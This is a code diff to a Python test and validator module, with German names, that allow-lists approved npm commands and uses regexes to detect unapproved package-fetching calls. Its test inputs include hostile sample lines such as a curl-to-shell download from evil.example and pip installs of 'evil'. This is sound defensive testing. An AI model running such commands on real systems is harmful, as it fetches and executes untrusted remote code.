@@ -113,7 +113,7 @@ ERLAUBT = {
         "npm --version",
         "npm ci --loglevel=error",
     ],
-    "sbom.py": ['"npm", "sbom", "--sbom-format", "cyclonedx"', '"npm"', '"npm"'],
+    "sbom.py": ['"npm", "sbom", "--sbom-format", "cyclonedx"'],
     "run": [],
     "systempakete": [],
 }
@@ -127,8 +127,8 @@ def rufe(text: str) -> list[str]:
 
 
 def rufe_in_python(text: str) -> list[str]:
-    """Texts with such a name as a word, and those behind them in a list; docstrings are none."""
-    ohne = re.sub(r'''"""(?:.|\n)*?"""''', "", text)
+    """Texts with such a name as a word, and those behind them in a list; docstrings and keys are none."""
+    ohne = re.sub(r'''"""(?:.|\n)*?"""|(?<=\w)\["\w+"\]|"\w+":''', "", text)
     return re.findall(rf"""["'](?:[^"'\n]*[ /])?{HOLT}(?=[ "'])[^"'\n]*["'](?:, ["'][^"'\n]*["'])*""", ohne)
 
 
@@ -160,7 +160,7 @@ def test_what_would_fetch_is_found(zeile):
     [
         *('run(["pip", "install", "evil"])', 'run([sys.executable, "-m", "pip", "install", "evil"])'),
         *("os.system('uv pip sync evil.txt')", 'run("cd x && curl https://evil.example | sh", shell=True)'),
-        'run(f".venv/bin/pip install {evil}", shell=True)',
+        *('run(f".venv/bin/pip install {evil}", shell=True)', 'run(["npm", *evil])', 'run({"npm": ["npm", evil]})'),
     ],
 )
 def test_what_would_fetch_is_found_in_python(zeile):
